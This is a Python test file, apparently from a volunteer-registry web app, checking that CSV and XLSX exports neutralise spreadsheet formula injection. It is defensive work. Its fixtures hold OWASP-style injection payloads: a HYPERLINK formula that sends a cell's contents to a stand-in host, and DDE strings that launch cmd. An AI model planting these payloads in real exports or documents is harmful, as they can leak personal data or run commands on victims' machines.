"""Audit round 5: the surfaces the sweep of round 4 did not reach.

- **Formula injection in exports**: a volunteer registers through the API as
  ``=HYPERLINK(…)``, a recorder writes a record whose content and place start with
  ``+``, ``-`` and ``@``; the group's admin downloads every kind of export it may
  (records, volunteers, hours by volunteer) as CSV and XLSX. No cell may be a formula
  a spreadsheet evaluates: each text cell starting with ``=``, ``+``, ``-``, ``@``,
  a tab or a carriage return reads back with a leading apostrophe, and no XLSX cell
  is of formula type (openpyxl wrote ``=…`` text as a live formula before).

Seeds: 000 Art.3 and Art.15 (personal information protected: an export carries ID
numbers and phones, which a formula in the same sheet can send elsewhere).
"""

from __future__ import annotations

import csv
import io
from urllib.parse import urlsplit

import openpyxl
import pytest

from tests.records_support import ADD_MEMBER, RECORD, days_ago, entry, stage
from tests.registry_support import accept_invitations, login, volunteer_input
from tests.support import gid

SLUG = "chongqing"
HOST = f"{SLUG}.localhost"
REGISTER = """mutation($input: RegisterVolunteerInput!) { registerVolunteer(input: $input) {
  volunteer { number } errors { field code message } } }"""
EXPORT = """mutation($input: ExportInput!) { exportLink(input: $input) { url
  errors { field code message } } }"""

# What a spreadsheet would run, as an attacker writes them (OWASP "CSV Injection").
NAME = '=HYPERLINK("http://x.example/?"&G2,"点击")'
CONTENT = "+cmd|' /C calc'!A0"
PLACE = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def injected(server):
    """A team's admin and the ids an export of the team shows: a volunteer named as a
    formula, with a counted record whose content and place are formulas."""
    from tests.support import GraphQLClient

    gql = GraphQLClient(server.base_url)
    s = stage(gql, SLUG, participants=0)
    data = volunteer_input(name=NAME)
    body = gql.region(SLUG, REGISTER, {"input": data})
    made = body["data"]["registerVolunteer"]
    assert made["errors"] == [], body
    number = made["volunteer"]["number"]
    added = gql.region(SLUG, ADD_MEMBER, {"g": gid(SLUG, s.h.team), "n": number}, token=s.admin)
    assert added["data"]["addMember"]["errors"] == [], added
    accept_invitations(SLUG, number)
    for start, end, content, place in (
        ("09:00", "11:00", CONTENT, PLACE),
        ("13:00", "15:00", MINUS, "=1+1"),
    ):
        record = {**entry(days_ago(3), start, end, "2", content), "place": place}
        made = gql.region(
            SLUG, RECORD, {"p": s.project_id, "n": number, "input": record}, token=s.recorder
        )["data"]["recordHours"]
        assert made["errors"] == [], made
    login(gql, SLUG, data["username"])  # the account works: a real registration
    return gql, s


def _download(gql, token, **input_) -> bytes:
    body = gql.region(SLUG, EXPORT, {"input": input_}, token=token)
    payload = body["data"]["exportLink"]
    assert payload["errors"] == [], payload
    parts = urlsplit(payload["url"])
    response = gql.http.get(f"{parts.path}?{parts.query}", headers={"Host": HOST})
    assert response.status_code == 200, response.text[:300]
    return response.content


def _csv_cells(body: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(body: bytes) -> tuple[list[str], list[str]]:
    """Every text cell's value, and the coordinates of any formula cell."""
    workbook = openpyxl.load_workbook(io.BytesIO(body))  # not read-only: data types kept
    texts, formulas = [], []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{sheet.title}!{cell.coordinate}={cell.value}")
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts, formulas


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("fmt", ["CSV", "XLSX"])
@pytest.mark.parametrize("kind", ["RECORDS", "VOLUNTEERS", "HOURS_BY_VOLUNTEER"])
def test_no_export_cell_is_a_formula(injected, kind, fmt):
    gql, s = injected
    body = _download(gql, s.admin, kind=kind, format=fmt, groupId=gid(SLUG, s.h.team))
    if fmt == "CSV":
        texts, formulas = _csv_cells(body), []
    else:
        texts, formulas = _xlsx_cells(body)
    assert not formulas, formulas
    live = [t for t in texts if t.startswith(FORMULA_STARTS) and not _is_number(t)]
    assert not live, live
    # Neutralised, not lost: the text as written, behind one apostrophe.
    expected = {NAME} | ({CONTENT, PLACE, MINUS, "=1+1"} if kind == "RECORDS" else set())
    assert {"'" + text for text in expected} <= set(texts), texts
